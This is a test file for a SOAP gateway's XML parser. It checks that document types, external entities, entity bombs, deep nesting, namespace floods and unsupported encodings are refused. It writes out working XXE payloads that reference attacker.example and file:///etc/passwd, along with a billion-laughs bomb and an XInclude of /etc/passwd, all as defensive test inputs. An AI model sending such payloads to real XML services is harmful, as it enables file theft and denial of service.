"""Hostile and sloppy bodies: what is refused and with which words, what is brought to UTF-8."""

import pytest

from gateway.core.codec.soap_parse import Parser, XmlLimits
from gateway.core.codec.soap_service import SENDER, SoapRefused

XML = "application/soap+xml"
parser = Parser(XmlLimits())

ENTITY = "<!DOCTYPE e [<!ENTITY x {}>]><e>&x;</e>"
LAUGHS = (
    "<!DOCTYPE e [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]><e a='&a11;'>&a11;</e>"
)
QUADRATIC = f"<!DOCTYPE e [<!ENTITY x '{'a' * 50_000}'>]><e>{'&x;' * 10_000}</e>"


def refusal(data: bytes, content_type: str | None = XML, limits: XmlLimits | None = None) -> str:
    with pytest.raises(SoapRefused) as refused:
        (Parser(limits) if limits else parser).parse(data, content_type)
    fault = refused.value.fault
    assert (fault.code, fault.subcode) == (SENDER, "ProtocolError")
    return fault.reason


@pytest.mark.parametrize(
    "text",
    [
        "<!DOCTYPE e><e/>",
        "<!DOCTYPE e SYSTEM 'http://attacker.example/e.dtd'><e/>",
        "<!DOCTYPE e PUBLIC 'x' 'file:///etc/passwd'><e/>",
        ENTITY.format("'y'"),
        ENTITY.format("SYSTEM 'file:///etc/passwd'"),
        ENTITY.format("SYSTEM 'http://attacker.example/x'"),
        "<?xml version='1.0'?>\n<!-- so --> <!DOCTYPE e [<!ATTLIST e a CDATA 'b'>]><e/>",
    ],
)
def test_every_document_type_is_refused(text):
    assert refusal(text.encode()) == "a document type is not allowed"


def test_a_parameter_entity_is_refused():
    text = "<!DOCTYPE e [<!ENTITY % p SYSTEM 'http://attacker.example/p'> %p;]><e/>"
    assert refusal(text.encode()) == "a document type is not allowed"


@pytest.mark.parametrize("text", [LAUGHS, QUADRATIC], ids=["laughs", "quadratic"])
def test_expanding_entities_are_refused(text):
    assert refusal(text.encode()).startswith(("a document type", "the body is not well-formed"))


def test_a_document_type_in_utf_16_is_refused():
    assert refusal(ENTITY.format("'y'").encode("utf-16")) == "a document type is not allowed"


def test_a_document_type_as_text_is_text():
    root = parser.parse(b"<e><![CDATA[<!DOCTYPE e>]]></e>", XML)
    assert root.text == "<!DOCTYPE e>"


def test_xinclude_is_inert():
    text = b"<e xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='/etc/passwd'/></e>"
    root = parser.parse(text, XML)
    assert [child.tag for child in root] == ["{http://www.w3.org/2001/XInclude}include"]
    assert root[0].text is None


def test_nesting_is_limited():
    def nested(depth: int) -> bytes:
        return b"<e>" * depth + b"</e>" * depth

    assert parser.parse(nested(32), XML).tag == "e"
    assert refusal(nested(33)) == "elements are nested deeper than 32"
    assert refusal(nested(19_000)).startswith("the body is not well-formed XML")
    assert refusal(nested(100_000)) == "more than 20000 elements"


def test_elements_are_limited_before_anything_is_parsed():
    limits = XmlLimits(elements=100)
    assert len(Parser(limits).parse(b"<e>" + b"<x/>" * 99 + b"</e>", XML)) == 99
    assert refusal(b"<e>" + b"<x/>" * 100 + b"</e>", limits=limits) == "more than 100 elements"
    assert refusal(b"<e" + b"<" * 101, limits=limits) == "more than 100 elements"


def test_size_is_limited():
    limits = XmlLimits(size=1000)
    assert refusal(b"<e>" + b"x" * 1000 + b"</e>", limits=limits) == (
        "the body is longer than 1000 bytes"
    )


def test_a_huge_text_within_the_size_passes():
    data = b"<e>" + b"x" * ((1 << 20) - 10) + b"</e>"
    assert parser.parse(data, XML).tag == "e"


@pytest.mark.parametrize("data", [b"", b"\0\0", b"no XML", b"{}", b"<e>", b"<a:e/>", b"\x00\x01"])
def test_what_is_no_xml_is_refused_without_quoting_it(data):
    reason = refusal(data)
    assert reason.startswith(("the body is not", "the encoding is none"))
    assert not data.strip(b"\0\x01") or data.decode() not in reason


def test_attributes_in_the_thousands_do_no_harm():
    attributes = b" ".join(b"a%d='x'" % number for number in range(20_000))
    assert len(parser.parse(b"<e " + attributes + b"/>", XML).attrib) == 20_000


def declaring(number: int, place: str) -> bytes:
    names = "".join(f' xmlns:n{n}="urn:{n}"' for n in range(number))
    return "<a><b><c/></b></a>".replace(place, place + names).encode()


@pytest.mark.parametrize("place", ["<a", "<b", "<c"])
def test_namespaces_at_one_place_are_limited(place):
    reason = "more than 256 namespaces at one place"
    assert refusal(declaring(20_000, place)) == refusal(declaring(257, place)) == reason
    assert parser.parse(declaring(256, place), XML).tag == "a"


def test_each_element_may_declare_its_own_namespace():
    own = "".join(f'<n{n}:x xmlns:n{n}="urn:{n}"/>' for n in range(5000))
    assert len(parser.parse(f"<a>{own}</a>".encode(), XML)) == 5000


@pytest.mark.parametrize("kind", ["text/html", "application/json", "image/png; charset=utf-8"])
def test_the_type_of_something_else_is_refused(kind):
    assert refusal(b"<e/>", kind) == "the content type is not that of a SOAP message"


@pytest.mark.parametrize(
    "kind", [None, "", "text/plain", "TEXT/XML; charset=utf-8", 'application/x+xml;action="/X"']
)
def test_a_type_that_may_be_xml_is_tried(kind):
    assert parser.parse(b"<e/>", kind).tag == "e"


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        ("<e>\u00e9</e>".encode(), XML),
        ("\ufeff<e>\u00e9</e>".encode(), XML),
        ("\r\n\ufeff<e>\u00e9</e>".encode(), XML),
        ("\r\n <?xml version='1.0'?><e>\u00e9</e>\0\0".encode(), XML),
        ("<?xml version='1.0' encoding='UTF-8'?><e>\u00e9</e>".encode(), XML),
        ("<?xml version='1.0' encoding='ISO-8859-1'?><e>\u00e9</e>".encode("latin-1"), XML),
        ("<?xml version='1.0' encoding='UTF-16'?><e>\u00e9</e>".encode("utf-16"), XML),
        ("<e>\u00e9</e>".encode("utf-16"), XML),
        ("<e>\u00e9</e>".encode("utf-16-le"), XML),
        ("<e>\u00e9</e>".encode("utf-16-be"), XML),
        ("<e>\u00e9</e>".encode("latin-1"), f"{XML}; charset=iso-8859-1"),
        ("<?xml version='1.0'?><e>\u00e9</e>".encode("latin-1"), f'{XML};charset="ISO-8859-1"'),
        # The declaration wins over the header.
        ("<?xml version='1.0' encoding='utf-8'?><e>\u00e9</e>".encode(), f"{XML};charset=latin1"),
        (b"<?xml version='1.0' encoding='US-ASCII'?><e>&#233;</e>", XML),
    ],
)
def test_the_encodings_that_are_read(data, kind):
    assert parser.parse(data, kind).text == "\u00e9"


@pytest.mark.parametrize(
    "data",
    [
        b"<?xml version='1.0' encoding='UTF-7'?><e/>",
        b"<?xml version='1.0' encoding='EBCDIC-US'?><e/>",
        b"<?xml version='1.0' encoding='UTF-16'?><e/>",
        "<e/>".encode("utf-32"),
        "<e/>".encode("utf-32-be"),
    ],
)
def test_other_encodings_are_refused(data):
    assert refusal(data) == "the encoding is none of UTF-8, UTF-16, US-ASCII, ISO-8859-1"


def test_a_body_that_is_not_in_the_encoding_it_says():
    data = "<?xml version='1.0' encoding='US-ASCII'?><e>\u00e9</e>".encode()
    assert refusal(data) == "the body is not ascii"
    assert refusal(b"<e>\xff</e>").startswith("the body is not well-formed XML")


def test_recovery_reads_what_is_left():
    root = parser.recover(b"<e><h>never closed<b>x</b></e>", XML)
    assert [element.tag for element in root.iter()] == ["e", "h", "b"]


def test_recovery_keeps_the_limits():
    with pytest.raises(SoapRefused, match="a document type"):
        parser.recover(ENTITY.format("'y'").encode() + b"<", XML)
    with pytest.raises(SoapRefused, match=r"nested deeper|not XML|not well-formed"):
        parser.recover(b"<e>" * 5000, XML)
